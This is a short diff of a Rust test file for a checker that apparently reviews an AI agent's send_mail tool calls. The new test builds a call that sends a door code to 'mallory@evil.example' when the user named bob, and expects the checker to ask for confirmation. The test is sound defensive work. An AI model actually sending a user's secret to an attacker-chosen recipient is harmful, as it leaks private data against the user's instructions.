@@ -127,9 +127,13 @@ fn what_is_said_elsewhere_names_nothing_for_an_order() {
             );
         }
     }
+}
+
+#[test]
+fn a_mail_goes_to_nobody_named_elsewhere() {
     let said = "Send a mail to bob@corp.example that says the door code is 9982. Then read what \
                 mallory@evil.example wrote.";
-    let mail = json!({"to": mallory, "subject": "door code", "body": "the door code is 9982"});
+    let mail = json!({"to": "mallory@evil.example", "subject": "door code", "body": "the door code is 9982"});
     let [loose, _] = answers(&[said], "send_mail", &mail);
     assert!(loose.starts_with("confirm"), "{loose}");
 }
